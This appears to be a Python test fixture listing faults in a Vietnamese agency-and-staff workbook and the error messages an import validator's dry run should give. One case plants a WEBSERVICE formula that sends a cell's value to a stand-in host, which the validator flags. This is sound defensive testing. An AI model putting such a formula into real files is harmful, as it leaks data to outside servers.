"""Kinds of fault: how the sound file is spoilt, and what the dry run must say, cell by cell."""

from datetime import date

from members.workbooks.columns import MOST_ROWS
from tests.members.workbook import AGENCIES, PERSONS


def row(workbook, sheet, *values):
    workbook[sheet].append(values)


def add(sheet, *values):
    return lambda workbook: row(workbook, sheet, *values)


def person(name="Ngô Văn Dậu", code="soyte", role="Chuyên viên", **values):
    first, last = values.get("first", date(2025, 1, 1)), values.get("last")
    contact = (values.get("basis"), values.get("phone"), values.get("email"))
    return add(PERSONS, name, code, role, values.get("title", role), first, last, *contact)


def agency(code="sokhcn", name="Sở Khoa học và Công nghệ", position=None, **values):
    joined = values.get("joined", date(2026, 1, 1))
    return add(AGENCIES, code, name, None, values.get("founded"), position, joined, None, None)


def unformatted(sheet, cell):
    def change(workbook):
        workbook[sheet][cell].number_format = "General"

    return change


def many_rows(workbook):
    for number in range(MOST_ROWS):
        person(f"Người mẫu {number}")(workbook)


FAULTS = {
    # The frame: sheets, columns, merged cells, number of rows.
    "missing sheet": (
        [lambda workbook: workbook.remove(workbook[PERSONS])],
        ["Người: The file has no sheet “Người”."],
    ),
    "missing column": (
        [(PERSONS, "A1", None)],
        ["Người!1:1: The column “Họ và tên” is missing."],
    ),
    "renamed column": (
        [(PERSONS, "I1", "Thư điện từ (email)")],
        ["Người!I1: No column is called “Thư điện từ (email)”. Is it “Thư điện tử”?"],
    ),
    "unknown column": (
        [(AGENCIES, "I1", "Số biên chế")],
        ["Cơ quan!I1: No column is called “Số biên chế”. Remove it, or use the template's name."],
    ),
    "column twice": (
        [(AGENCIES, "C1", "Tên cơ quan")],
        ["Cơ quan!C1: The column “Tên cơ quan” is there twice."],
    ),
    "merged cells": (
        [lambda workbook: workbook[PERSONS].merge_cells("D2:D3")],
        [
            "Người!D2:D3: These cells are merged. Separate them and fill in each row.",
            "Người!D3: “Chức vụ in trên văn bản” is needed.",
        ],
    ),
    "too many rows": (
        [many_rows],
        ["Người!A302: A sheet takes at most 300 rows. Divide the file."],
    ),
    # Single cells.
    "empty required cell": (
        [(PERSONS, "A3", None)],
        ["Người!A3: “Họ và tên” is needed."],
    ),
    "blank required cell": (
        [(AGENCIES, "B2", " \u00a0 ")],
        ["Cơ quan!B2: “Tên cơ quan” is needed."],
    ),
    "name too long": (
        [(AGENCIES, "B3", "Sở " + "A" * 198)],
        ["Cơ quan!B3: Too long: 201 characters, at most 200."],
    ),
    "formula": (
        [(PERSONS, "A2", '=CONCATENATE("Trần"," Bình")')],
        ["Người!A2: This is a formula. Paste the value in its place."],
    ),
    "formula that calls out": (
        [(PERSONS, "G2", '=WEBSERVICE("http://example.vn/"&A2)')],
        ["Người!G2: This is a formula. Paste the value in its place."],
    ),
    "error value": (
        [(PERSONS, "D4", "#N/A")],
        ["Người!D4: Excel shows an error here (#N/A)."],
    ),
    "hidden character": (
        [(PERSONS, "A2", "Trần Thị\u200b Bình")],
        ["Người!A2: There is a hidden character (U+200B) in this cell. Type the text anew."],
    ),
    "old font": (
        [(AGENCIES, "B2", "Së Gi¸o dôc")],
        ["Cơ quan!B2: This is typed in an old font (TCVN3). Type it again in Unicode."],
    ),
    "number for text": (
        [(PERSONS, "H2", 912345678)],
        ["Người!H2: This is a number or a date. Format the cell as text and type it again."],
    ),
    "truth value for text": (
        [(PERSONS, "D2", True)],
        ["Người!D2: This is a number or a date. Format the cell as text and type it again."],
    ),
    "code with marks": (
        [(AGENCIES, "A2", "sở y tế")],
        [
            "Cơ quan!A2: A code has only letters without marks, digits and dashes.",
            "Người!B2: No agency of this file or of the bloc has the code “soyte”.",
            "Người!B3: No agency of this file or of the bloc has the code “soyte”.",
        ],
    ),
    "bad date": (
        [(PERSONS, "E2", "31/02/2025")],
        ["Người!E2: “31/02/2025” is not a day. Write it like 12/01/2026."],
    ),
    "date in words": (
        [(PERSONS, "E2", "đầu năm 2025")],
        ["Người!E2: “đầu năm 2025” is not a day. Write it like 12/01/2026."],
    ),
    "date as number": (
        [(PERSONS, "E2", 45658), unformatted(PERSONS, "E2")],
        [
            "Người!E2: This is a number, not a date. Type it as 12/01/2026, or format the cell as "
            "a date."
        ],
    ),
    "impossible year": (
        [(AGENCIES, "F2", date(1900, 3, 26))],
        ["Cơ quan!F2: The year 1900 cannot be right."],
    ),
    "end before beginning": (
        [(PERSONS, "F2", date(2024, 12, 31))],
        ["Người!F2: The last day lies before the first day."],
    ),
    "negative place": (
        [(AGENCIES, "E2", -1)],
        ["Cơ quan!E2: A place in the list is a whole number from 1 to 40."],
    ),
    "broken place": (
        [(AGENCIES, "E2", 1.5)],
        ["Cơ quan!E2: A place in the list is a whole number from 1 to 40."],
    ),
    "bad e-mail": (
        [(PERSONS, "I2", "binh.example.vn")],
        ["Người!I2: “binh.example.vn” is not an e-mail address."],
    ),
    "bad telephone": (
        [(PERSONS, "H2", "máy lẻ 12")],
        [
            "Người!H2: This is not a telephone number. Write digits only, such as 0912 345 678.",
        ],
    ),
    "unknown role": (
        [(PERSONS, "C2", "Sếp")],
        ["Người!C2: No role is called “Sếp”. Choose one from the list."],
    ),
    "role of an overseer": (
        [(PERSONS, "C2", "Quản trị hệ thống")],
        ["Người!C2: Council officers and administrators are not taken from a file."],
    ),
    # The file against itself.
    "unknown code": (
        [(PERSONS, "B4", "sogd")],
        ["Người!B4: No agency of this file or of the bloc has the code “sogd”."],
    ),
    "code twice": (
        [agency("SOYTE", "Sở Y tế mới")],
        ["Cơ quan!A4: This code already stands in row 2."],
    ),
    "name twice": (
        [agency("soyte2", "Sở Y tế")],
        ["Cơ quan!B4: This name already stands in row 2."],
    ),
    "place twice": (
        [agency(position=2)],
        ["Cơ quan!E4: This place is already taken in row 3."],
    ),
    "joins before it is founded": (
        [agency(founded=date(2026, 7, 1))],
        ["Cơ quan!F4: The agency joins before it is founded."],
    ),
    "two heads": (
        [person(role="Thủ trưởng", title="Giám đốc")],
        [
            "Người!C5: An agency has one head at a time: Trần Thị Bình is head since 01/01/2025.",
        ],
    ),
    "post twice": (
        [person("Lê Văn Tám", first=date(2026, 12, 31))],
        [
            "Người!E5: The person holds this very post from 01/06/2025 to the end of 31/12/2026 "
            "already.",
        ],
    ),
    "e-mail twice": (
        [person(email="Binh@example.vn")],
        ["Người!I5: Row 2 gives this e-mail to somebody else."],
    ),
    "two telephones": (
        [person("Trần Thị Bình", role="Chuyên viên", phone="0987654321")],
        ["Người!H5: Row 2 gives the same person another telephone number."],
    ),
    "all at once": (
        [
            (AGENCIES, "B2", None),
            (PERSONS, "A2", 7),
            (PERSONS, "E3", "mai"),
            (PERSONS, "I4", "cuc"),
        ],
        [
            "Cơ quan!B2: “Tên cơ quan” is needed.",
            "Người!A2: This is a number or a date. Format the cell as text and type it again.",
            "Người!E3: “mai” is not a day. Write it like 12/01/2026.",
            "Người!I4: “cuc” is not an e-mail address.",
        ],
    ),
    "nothing at all": (
        [
            lambda workbook: workbook[AGENCIES].delete_rows(2, 9),
            lambda workbook: workbook[PERSONS].delete_rows(2, 9),
        ],
        ["Cơ quan: Both sheets are empty: there is nothing to enter."],
    ),
}
